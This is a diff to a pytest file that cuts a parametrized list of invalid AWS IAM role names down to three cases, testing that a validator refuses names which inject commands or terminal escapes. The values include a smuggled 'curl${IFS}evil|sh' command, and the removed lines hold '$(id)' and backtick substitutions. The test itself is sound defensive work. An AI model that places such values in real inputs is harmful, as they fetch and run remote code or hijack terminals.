@@ -25,26 +25,7 @@ def refused(arn: str, kind: str) -> bool:
     return False
 
 
-@pytest.mark.parametrize(
-    "name",
-    [
-        "x;curl${IFS}evil|sh",
-        "日本",
-        "ä",
-        "x" * 65,
-        "x" * 300,
-        "a:b",
-        "a\n",
-        "a\nb",
-        "a\x1b[2J",
-        "a`id`",
-        "$(id)",
-        "a'b",
-        'a"b',
-        "a&b",
-        "/" + "p" * 511 + "/a",
-    ],
-)
+@pytest.mark.parametrize("name", ["x;curl${IFS}evil|sh", "a\x1b[2J", "/" + "p" * 511 + "/a"])
 def test_role_names_that_iam_does_not_have(name: str) -> None:
     """The attack: an ARN whose role's name runs a command, or drives a terminal, wherever it is printed."""
     assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role")
